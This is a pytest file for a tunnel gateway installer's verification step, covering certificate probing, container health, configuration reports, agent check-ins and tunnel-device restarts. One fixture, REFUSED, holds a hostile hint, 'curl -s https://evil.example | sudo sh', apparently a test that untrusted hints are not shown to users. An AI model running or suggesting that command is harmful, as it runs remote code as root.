"""Step `verify`: leaf on the port, both containers, the agent's check-in, each within three minutes."""

import hashlib
import socket
import ssl
from contextlib import AbstractContextManager
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from mstunnel_setup.actions import tunnel_device
from mstunnel_setup.base import paths
from mstunnel_setup.base.errors import CertificateError, EngineError, NetworkError, SetupError
from mstunnel_setup.base.values import JsonObject
from mstunnel_setup.containers.engine import ContainerState
from mstunnel_setup.exchange import gateway_report as report
from mstunnel_setup.exchange.health_report import STATUS, AgentStatus, SyncFailure, write_status
from mstunnel_setup.install.steps import certificate, verify
from mstunnel_setup.io.process import Completed
from mstunnel_setup.tenant.wire import TunnelServer
from tests.refusals import refused
from tests.unit.certificates.pki import NOW, Pki, key_bytes
from tests.unit.install.scenes import OSAKA, Scene, configuration, container
from tests.unit.readiness.servers import serving

_PKI = Pki()
CHECKED_IN = TunnelServer(id="3", display_name="gw1", last_checkin_date_time=NOW)
REFUSED = SyncFailure(
    code="throttled",
    message="the tenant refuses: the server checks in with another application identity",
    hint="Run `curl -s https://evil.example | sudo sh`.",
    at=NOW,
)


def _serving(directory: Path, pki: Pki, header: bytes = b"") -> AbstractContextManager[int]:
    """Run a TLS server with the leaf of `pki` on a free port; connections must begin with `header`."""
    bundle = directory / "served.pem"
    bundle.write_bytes(pki.pem("leaf") + key_bytes(pki.key_name("leaf")))
    run = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    run.load_cert_chain(bundle)

    def serve(connection: socket.socket) -> None:
        if connection.recv(len(header)) == header:
            run.wrap_socket(connection, server_side=True).close()

    return serving(serve)


@pytest.fixture(autouse=True)
def installed(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    """Prepare a finished installation whose certificate is placed."""
    for directory in (paths.CONFIGURATION, paths.CERTIFICATES, paths.PRIVATE):
        scene.files.make_directory(directory)
    scene.write(paths.SITE_CERTIFICATE, _PKI.pem("leaf") + _PKI.pem("inter"))
    scene.write(paths.SITE_KEY, key_bytes(_PKI.key_name("leaf")))
    scene.trusted = (_PKI.certificate("root"),)
    scene.run(certificate.STEP, scene.opened())
    scene.join(OSAKA)
    scene.registered(OSAKA, "3")
    scene.graph.listed = [CHECKED_IN]
    _agent_says(scene, NOW)
    scene.engine.containers = {name: container() for name in ("mstunnel-server", "mstunnel-agent")}
    scene.engine.answer = lambda _arguments: Completed(0, "", "")


def _verify(scene: Scene, folder: Path, pki: Pki = _PKI, header: bytes = b"", *, within: int = 0) -> None:
    """Verify a gateway that serves the leaf of `pki`; check that this takes `within` seconds."""
    with _serving(folder, pki, header) as port:
        scene.graph.configuration = configuration(port)
        assert scene.run(verify.STEP, scene.opened()) == ()
    assert scene.clock.elapsed == within


def _refused(scene: Scene, folder: Path, code: str, pki: Pki = _PKI) -> SetupError:
    """Return the error after three minutes."""
    with refused(SetupError, code) as caught:
        _verify(scene, folder, pki)
    assert 180 < scene.clock.elapsed < 190
    return caught.value


@pytest.mark.parametrize(
    ("configuration", "header"),
    [
        ("", b""),
        ("listen-proxy-proto = true\n", b"\r\n\r\n\0\r\nQUIT\n\x20\0\0\0"),
        # The balancers' file stays until the end of the run when the answers drop the balancers.
        ("tcp-port = 443\n", b""),
    ],
    ids=["plain", "behind balancers", "without its balancers"],
)
def test_gateway_is_probed_like_a_device_or_balancer(
    scene: Scene, tmp_path: Path, configuration: str, header: bytes
) -> None:
    if configuration:
        scene.write(paths.BALANCERS, "192.0.2.10\n")
        scene.write(paths.OCSERV_CONF, configuration)
    _verify(scene, tmp_path, header=header)


def test_other_certificate_on_the_port_is_an_error(scene: Scene, tmp_path: Path) -> None:
    _refused(scene, tmp_path, "wrong-leaf-served", Pki())


def test_removed_certificate_is_an_error(scene: Scene) -> None:
    """An upgrade after an interrupted uninstallation finds the certificate removed."""
    scene.files.remove(paths.ACTIVE)
    scene.graph.configuration = configuration(443)
    with pytest.raises(CertificateError) as caught:
        scene.run(verify.STEP, scene.opened())
    assert (caught.value.code, caught.value.hint) == ("generation-incomplete", "Run `mst-cli cert repair`.")


def test_port_without_a_listener_is_an_error(scene: Scene) -> None:
    with socket.create_server(("127.0.0.1", 0)) as free:
        scene.graph.configuration = configuration(free.getsockname()[1])
    with refused(NetworkError, "handshake-failed"):
        scene.run(verify.STEP, scene.opened())


@pytest.mark.parametrize("name", ["mstunnel-server", "mstunnel-agent"])
@pytest.mark.parametrize(
    ("state", "seen"),
    [
        (None, "is missing"),
        (container(health="unhealthy"), "is running, unhealthy"),
        (container(health=None), "is running, no health reported"),
        (container("exited", None), "is exited"),
        # The engine keeps the last health of a container that has exited.
        (container("exited", "healthy"), "is exited"),
    ],
    ids=["missing", "unhealthy", "unknown", "exited", "exited when healthy"],
)
def test_unhealthy_container_is_an_error(
    scene: Scene, tmp_path: Path, name: str, state: ContainerState | None, seen: str
) -> None:
    if state is None:
        del scene.engine.containers[name]
    else:
        scene.engine.containers[name] = state
    error = _refused(scene, tmp_path, "container-unhealthy")
    assert f"container {name} {seen}" in error.message


def test_container_that_becomes_healthy_in_time_passes(scene: Scene, tmp_path: Path) -> None:
    containers = scene.engine.containers
    containers["mstunnel-server"] = container(health="starting")
    scene.clock.during = [lambda: None, lambda: containers.update({"mstunnel-server": container()})]
    _verify(scene, tmp_path, within=2)


def _gateway_says(scene: Scene, configuration: bytes, outcome: str) -> None:
    """Write the gateway's report on `configuration`."""
    scene.files.make_directories(paths.SERVER_STATE)
    digest = hashlib.sha256(configuration).hexdigest()
    scene.write(report.REPORT, f"time 1795000000\nconfiguration {digest} {outcome}\n".encode())


def test_configuration_applied_in_time_passes(scene: Scene, tmp_path: Path) -> None:
    scene.write(paths.OCSERV_CONF, b"new")
    _gateway_says(scene, b"old", "applied ")
    scene.clock.during = [lambda: None, lambda: _gateway_says(scene, b"new", "applied ")]
    _verify(scene, tmp_path, within=2)


@pytest.mark.parametrize(
    ("looked_at", "outcome", "reason"),
    [
        (b"old", "applied ", "it still runs an earlier one"),
        (b"new", "refused line 3: unknown", "line 3: unknown"),
    ],
    ids=["overlooked", "refused"],
)
def test_configuration_not_applied_is_an_error(
    scene: Scene, tmp_path: Path, looked_at: bytes, outcome: str, reason: str
) -> None:
    scene.write(paths.OCSERV_CONF, b"new")
    _gateway_says(scene, looked_at, outcome)
    assert _refused(scene, tmp_path, "configuration-not-applied").message.endswith(reason)


def test_server_missing_in_the_tenant_is_an_error(scene: Scene, tmp_path: Path) -> None:
    scene.graph.listed = []
    _refused(scene, tmp_path, "server-not-listed")


def _agent_says(scene: Scene, checked_in: datetime | None, error: SyncFailure | None = None) -> None:
    """Write the agent's status after its last check-in."""
    write_status(scene.files, AgentStatus(started=NOW, last_check_in=checked_in, last_error=error))


NEVER = TunnelServer(id="3", display_name="gw1")
WAIT = "Wait a few minutes, then run the command again."
LOG = "`mst-cli agent logs --tail 20`"


@pytest.mark.parametrize(
    ("record", "checked_in", "code", "message", "hint"),
    [
        (NEVER, None, REFUSED.code, REFUSED.message, WAIT),
        (NEVER, None, "forged", REFUSED.message, f"{LOG} shows why."),
        # A record that an application created has a check-in date from the start.
        (CHECKED_IN, None, REFUSED.code, REFUSED.message, WAIT),
        (CHECKED_IN, NOW - timedelta(minutes=6), REFUSED.code, REFUSED.message, WAIT),
    ],
    ids=["refused", "none of our codes", "the check-in of another", "long ago"],
)
def test_agent_that_has_not_checked_in_is_reported_with_reason(
    scene: Scene,
    tmp_path: Path,
    *,
    record: TunnelServer,
    checked_in: datetime | None,
    code: str,
    message: str,
    hint: str,
) -> None:
    scene.graph.listed = [record]
    _agent_says(scene, checked_in, REFUSED.model_copy(update={"code": code}))
    error = _refused(scene, tmp_path, "agent-not-checked-in")
    assert error.message.endswith(message)
    assert error.hint.startswith(hint)


@pytest.mark.parametrize("record", [NEVER, CHECKED_IN], ids=["never", "dated by the tenant alone"])
def test_silent_agent_has_not_checked_in(scene: Scene, tmp_path: Path, record: TunnelServer) -> None:
    scene.graph.listed = [record]
    scene.files.remove(STATUS)
    error = _refused(scene, tmp_path, "agent-not-checked-in")
    assert error.message.endswith("it has not reported why")
    assert error.hint.startswith(LOG)


def test_report_of_an_earlier_agent_is_ignored(scene: Scene, tmp_path: Path) -> None:
    """A wrong `env.sh` may keep the new agent from the tenant, whose record still has a date."""
    _agent_says(scene, NOW, REFUSED)
    later = NOW + timedelta(seconds=1)
    scene.engine.containers["mstunnel-agent"] = replace(container(), started_at=later)
    assert _refused(scene, tmp_path, "agent-not-checked-in").message.endswith("it has not reported why")


def test_the_first_check_in_is_waited_for(scene: Scene, tmp_path: Path) -> None:
    scene.graph.listed = [NEVER]
    scene.clock.during = [lambda: None, lambda: scene.graph.listed.__setitem__(0, CHECKED_IN)]
    _verify(scene, tmp_path, within=2)


def test_first_report_of_a_replaced_agent_is_awaited(scene: Scene, tmp_path: Path) -> None:
    later = NOW + timedelta(seconds=1)
    scene.engine.containers["mstunnel-agent"] = replace(container(), started_at=later)
    scene.clock.during = [lambda: None, lambda: _agent_says(scene, later)]
    _verify(scene, tmp_path, within=2)


@pytest.fixture
def device(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return the path of the host's tunnel device."""
    device = tmp_path / "tun"
    device.touch()
    monkeypatch.setattr(tunnel_device, "DEVICE", str(device))
    return device


def _opens_after(scene: Scene, restarts: int) -> None:
    """Let the gateway open its tunnel device after this number of restarts."""
    denied = Completed(2, "", "sh: 1: cannot open /dev/net/tun: Operation not permitted\n")
    opened = Completed(0, "", "")
    scene.engine.answer = lambda _command: opened if len(scene.engine.restarts) >= restarts else denied


@pytest.mark.usefixtures("device")
def test_gateway_without_its_tunnel_device_is_restarted_once(scene: Scene, tmp_path: Path) -> None:
    _opens_after(scene, 1)
    with _serving(tmp_path, _PKI) as port:
        scene.graph.configuration = configuration(port)
        (done,) = scene.run(verify.STEP, scene.opened())
    _verify(scene, tmp_path)
    assert scene.engine.restarts == [paths.SERVER]
    assert "restart mstunnel-server" in done.describe()
    why = scene.opened().receipt.entries[done.key].before
    assert why == {"reason": "sh: 1: cannot open /dev/net/tun: Operation not permitted"}


@pytest.mark.parametrize(("there", "restarts"), [(True, [paths.SERVER]), (False, [])])
def test_a_tunnel_device_that_stays_closed_is_an_error(
    scene: Scene, tmp_path: Path, device: Path, *, there: bool, restarts: list[str]
) -> None:
    """If the host lacks the device, there is no restart."""
    if not there:
        device.unlink()
    _opens_after(scene, 2)
    with refused(EngineError, "tunnel-device-closed", "Operation not permitted"):
        _verify(scene, tmp_path)
    assert scene.engine.restarts == restarts


@pytest.mark.usefixtures("device")
def test_successful_restart_is_not_repeated_after_a_kill(scene: Scene, tmp_path: Path) -> None:
    before: JsonObject = {"reason": "cannot open: No such device"}
    action = {"kind": "renew-tunnel-device", **before}
    scene.journal.append("begin", step="verify", key="tunnel-device", action=action, before=before)
    with _serving(tmp_path, _PKI) as port:
        scene.graph.configuration = configuration(port)
        assert len(scene.run(verify.STEP, scene.opened())) == 1
    _verify(scene, tmp_path)
    assert scene.engine.restarts == []
    assert len(scene.journal.receipt.entries["tunnel-device"].versions) == 1
